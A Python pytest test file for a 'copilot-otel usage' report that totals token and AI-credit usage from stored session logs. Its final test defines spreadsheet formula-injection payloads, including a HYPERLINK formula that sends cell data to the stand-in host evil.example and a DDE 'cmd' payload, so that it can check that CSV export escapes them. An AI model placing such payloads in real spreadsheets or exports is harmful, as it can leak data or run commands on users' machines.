"""`copilot-otel usage`: what this machine's sessions used, by day, week or month, from the logs the real CLI
wrote (tests/fixtures/cli, every version), read by the command as a user runs it (a subprocess, no daemon).
Where a test changes a stored log (its clock shifted, its model renamed, cut off mid-turn), it says how."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from tests.e2e.test_daily_views import sessions_json
from tests.support.commands import run_copilot_otel

CLI = Path(__file__).resolve().parents[1] / "fixtures" / "cli"
AMOUNTS = ("llm_calls", "input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens",
           "premium_requests", "nano_aiu", "lines_added", "lines_removed")
SUMMED = ("llm_calls", "input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens", "nano_aiu",
          "lines_added", "lines_removed")


def copy_logs(pattern: str, home: Path) -> list[Path]:
    """The stored session folders matching ``pattern`` (under tests/fixtures/cli) copied into ``home``."""
    folders = []
    for log in sorted(CLI.glob(f"{pattern}/session-state/*/events.jsonl")):
        folders.append(Path(shutil.copytree(log.parent, home / "session-state" / log.parent.name)))
    assert folders
    return folders


def usage(home: Path, state: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess:
    result = run_copilot_otel("usage", "--copilot-home", str(home), "--state-dir", str(state), *args,
                              env={"COLUMNS": "160", "TZ": "UTC"})
    if check:
        assert result.returncode == 0, result.stderr.decode()
    return result


def usage_json(home: Path, state: Path, *args: str) -> dict:
    return json.loads(usage(home, state, "--json", *args).stdout)


def events_of(log: Path) -> list[dict]:
    return [json.loads(line) for line in log.read_text().splitlines() if line.strip()]


def write_events(log: Path, events: list[dict]) -> None:
    """The events written as the CLI writes them, the file last modified at its last event (as a log written
    then would be: the report skips logs last written before --since)."""
    log.write_text("".join(json.dumps(e, separators=(",", ":")) + "\n" for e in events))
    last = max(parse_stamp(e["timestamp"]).timestamp() for e in events)
    os.utime(log, (last, last))


def stamp(when: datetime) -> str:
    return when.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond // 1000:03d}Z"


def parse_stamp(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def test_the_totals_are_the_sessions_own_on_every_version_and_every_grouping(tmp_path):
    """Over every stored session of every CLI version, the report's total (by day, week or month, with any
    grouping) is what `sessions --json` lists summed up: tokens of each kind, LLM calls, AI credits to the nano
    AIU, premium requests, lines changed; every row adds up to it, and every session is counted."""
    home, state = tmp_path / "home", tmp_path / "state"
    copy_logs("*/*", home)
    listed = sessions_json(home, tmp_path / "listing", "--from-files")
    # An unknown amount is null (no call reported one): nothing to add up.
    expected = {field: sum(row[field] or 0 for row in listed.values()) for field in SUMMED}
    expected_premium = sum(row["premium_requests"] for row in listed.values())
    assert expected["input_tokens"] and expected["nano_aiu"] and expected["cache_read_tokens"]
    for by, group in (("day", ""), ("week", "model"), ("month", "repository,branch"), ("day", "model,session")):
        report = usage_json(home, state, "--by", by, "--group", group)
        total = report["total"]
        assert {field: total[field] for field in SUMMED} == expected, (by, group)
        assert total["premium_requests"] == pytest.approx(expected_premium, abs=1e-6)
        assert total["sessions"] == len(listed)
        for field in SUMMED:
            assert sum(row[field] or 0 for row in report["rows"]) == total[field], (by, group, field)
        assert total["usd"] == pytest.approx(total["nano_aiu"] / 1e9 * 0.01)
        for row in report["rows"]:  # unknown is null in every amount of credits; known or a floor is a number
            assert (row["nano_aiu"] is None) == (row["ai_credits"] is None) == (row["usd"] is None)
            assert row["nano_aiu"] is not None or not row["credits_complete"]
        assert report["usd_per_ai_credit"] == 0.01 and "$0.01" in report["note"]
    by_session = usage_json(home, state, "--group", "session")["rows"]
    assert {row["session"] for row in by_session} == set(listed)


def test_a_session_past_midnight_counts_each_call_on_its_own_day(tmp_path):
    """A real session (1.0.102, three calls billed in AI credits) whose clock is shifted so that midnight in
    Berlin falls between its first and second call: with --tz Europe/Berlin its first call counts on the first
    day and the other two on the next, each with the tokens and credits its usage record holds; in UTC (an hour
    behind) all three are on the first day."""
    home, state = tmp_path / "home", tmp_path / "state"
    (folder,) = copy_logs("1.0.102/credits_complete", home)
    log = folder / "events.jsonl"
    events = events_of(log)
    calls = [e for e in events if e["type"] == "session.usage_record"]
    assert len(calls) == 3
    first, second = parse_stamp(calls[0]["timestamp"]), parse_stamp(calls[1]["timestamp"])
    berlin = ZoneInfo("Europe/Berlin")
    midnight = datetime(2026, 12, 10, tzinfo=berlin)
    shift = midnight - (first + (second - first) / 2)
    for event in events:
        event["timestamp"] = stamp(parse_stamp(event["timestamp"]) + shift)
    write_events(log, events)

    rows = usage_json(home, state, "--tz", "Europe/Berlin")["rows"]
    assert [row["day"] for row in rows] == ["2026-12-09", "2026-12-10"]
    for row, records in ((rows[0], calls[:1]), (rows[1], calls[1:])):
        assert row["llm_calls"] == len(records)
        assert row["input_tokens"] == sum(r["data"]["usage"]["inputTokens"] for r in records)
        assert row["nano_aiu"] == sum(r["data"]["usage"]["copilotUsage"]["totalNanoAiu"] for r in records)
        assert row["sessions"] == 1
    assert [row["day"] for row in usage_json(home, state, "--tz", "UTC")["rows"]] == ["2026-12-09"]
    # --since / --until in the same zone: only the second day
    window = usage_json(home, state, "--tz", "Europe/Berlin", "--since", "2026-12-10", "--until", "2026-12-10")
    assert [row["day"] for row in window["rows"]] == ["2026-12-10"] and window["total"]["llm_calls"] == 2


def test_running_and_crashed_sessions_are_counted_and_marked(tmp_path):
    """Two real logs cut off inside a tool call: one whose CLI process still lives (its lock file names a live
    process) is counted as running, one with no process (a 1.0.102 log without its lock) as crashed; both count
    with what they used so far, and the table marks them."""
    home, state = tmp_path / "home", tmp_path / "state"
    folders = copy_logs("1.0.102/multi_turn", home) + copy_logs("1.0.102/plain", home)
    for folder in folders:
        events = events_of(folder / "events.jsonl")
        cut = next(i for i, e in enumerate(events) if e["type"] == "tool.execution_start") + 1
        write_events(folder / "events.jsonl", events[:cut])
    holder = subprocess.Popen(["sleep", "60"])
    try:
        (folders[0] / f"inuse.{holder.pid}.lock").write_text(str(holder.pid))
        report = usage_json(home, state)
        table = usage(home, state).stdout.decode()
    finally:
        holder.kill()
        holder.wait()
    (row,) = report["rows"]
    assert (row["sessions"], row["running"], row["crashed"]) == (2, 1, 1)
    assert row["llm_calls"] == 2 and row["input_tokens"] > 0
    assert "1 running, 1 crashed" in table and "running: the session's CLI still holds it" in table


def test_damaged_logs_are_counted_and_named_and_the_rest_is_reported(tmp_path):
    """A real log with two lines damaged in the middle (not JSON; a cut line), and a session whose log is binary
    junk (invalid UTF-8): the report says how many lines it could not read, names the file and each line, and
    still reports the other sessions whole."""
    home, state = tmp_path / "home", tmp_path / "state"
    folders = copy_logs("1.0.102/plain", home) + copy_logs("1.0.102/multi_turn", home)
    log = folders[1] / "events.jsonl"
    lines = log.read_bytes().splitlines(keepends=True)
    lines[2] = b"not json at all\n"
    lines[3] = lines[3][: len(lines[3]) // 2] + b"\n"
    log.write_bytes(b"".join(lines))
    junk = home / "session-state" / "0badf00d-0000-4000-8000-000000000000" / "events.jsonl"
    junk.parent.mkdir()
    junk.write_bytes(b"\xff\xfe\x00junk\n")
    result = usage(home, state, "--json")
    report = json.loads(result.stdout)
    said = result.stderr.decode()
    assert report["unreadable"]["lines"] == 3
    assert {(p["path"], p["line"]) for p in report["unreadable"]["named"]} == {(str(log), 3), (str(log), 4),
                                                                                (str(junk), 1)}
    assert f"{log}:3:" in said and f"{log}:4:" in said and f"{junk}:1:" in said
    assert said.startswith("copilot-otel: skipped 3 unreadable lines in 2 logs; the report leaves them out:"), said
    listed = sessions_json(home, tmp_path / "listing", "--from-files")
    assert report["total"]["llm_calls"] == sum(row["llm_calls"] for row in listed.values()) >= 2
    table = usage(home, state)
    assert table.returncode == 0 and "total" in table.stdout.decode()


def test_an_unknown_model_gets_its_own_row(tmp_path):
    """A real log whose usage records name a model no one knows (renamed in the copy) beside an unchanged one:
    grouped by model, the unknown one is a row of its own with its calls and tokens."""
    home, state = tmp_path / "home", tmp_path / "state"
    folders = copy_logs("1.0.102/credits_complete", home) + copy_logs("1.0.102/copilot_api", home)
    log = folders[0] / "events.jsonl"
    log.write_text(log.read_text().replace('"model":"claude-sonnet-4.5"', '"model":"mystery-model-9000"'))
    rows = {row["model"]: row for row in usage_json(home, state, "--group", "model")["rows"]}
    assert set(rows) == {"mystery-model-9000", "claude-sonnet-4.5"}
    assert rows["mystery-model-9000"]["llm_calls"] == 3 and rows["mystery-model-9000"]["nano_aiu"] > 0


def test_csv_and_the_table_say_what_json_says(tmp_path):
    """--csv has one line per row of --json, with the same values; the table (what a terminal gets) shows each
    day, the total and the billing rate; a bad --tz or --since is one line on stderr and exit 2."""
    home, state = tmp_path / "home", tmp_path / "state"
    copy_logs("1.0.102/*", home)
    report = usage_json(home, state, "--group", "model")
    rows = list(csv.DictReader(io.StringIO(usage(home, state, "--csv", "--group", "model").stdout.decode())))
    assert len(rows) == len(report["rows"])
    for line, row in zip(rows, report["rows"]):
        keys = ("day", "model", "llm_calls", "nano_aiu", "ai_credits", "usd")  # unknown: null, an empty cell
        assert {k: line[k] for k in keys} == {k: "" if row[k] is None else str(row[k]) for k in keys}
    table = usage(home, state, "--group", "model").stdout.decode()
    assert "1 AI credit = $0.01" in table and "total" in table
    assert all(row["day"] in table for row in report["rows"])
    for flags in (("--tz", "Mars/Olympus"), ("--since", "yesterday-ish"), ("--json", "--csv")):
        bad = usage(home, state, *flags, check=False)
        assert bad.returncode == 2 and len(bad.stderr.decode().strip().splitlines()) == 1, flags


FORMULAS = {"repository": '=HYPERLINK("//evil.example/x?"&A2,"report")', "branch": "\t+SUM(1+1)",
            "model": "-2+3+cmd|' /C calc'!A0", "session": " @SUM(1)"}


def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_json_keeps_them(tmp_path):
    """A repository, branch, model and session folder named as spreadsheet formulas (=, a tab and +, -, a space
    and @): every such --csv cell starts with the OWASP escape ' followed by the name, the number cells stay
    numbers, and --json holds the names as they are."""
    from tests.support.events import SessionLog

    home, state = tmp_path / "home", tmp_path / "state"
    log = SessionLog(FORMULAS["session"], model=FORMULAS["model"])
    log.start(repository=FORMULAS["repository"], branch=FORMULAS["branch"], gitRoot="/work")
    log.user()
    log.turn_start()
    log.usage(input_tokens=1000, output_tokens=10, nano_aiu=2_000_000)
    log.turn_end()
    log.shutdown()
    folder = home / "session-state" / FORMULAS["session"]
    folder.mkdir(parents=True)
    write_events(folder / "events.jsonl", log.entries)
    groups = ("--group", "repository,branch,model,session")
    report = usage_json(home, state, *groups)
    [row] = report["rows"]
    assert {name: row[name] for name in FORMULAS} == FORMULAS
    text = usage(home, state, "--csv", *groups).stdout.decode()
    [line] = list(csv.DictReader(io.StringIO(text)))
    for name, value in FORMULAS.items():
        shown = value.replace("\t", "\\t")  # what reaches a terminal is escaped too (safe_text)
        assert line[name] == "'" + shown, (name, line[name])
    assert line["llm_calls"] == "1" and line["input_tokens"] == "1000" and float(line["ai_credits"]) == 0.002
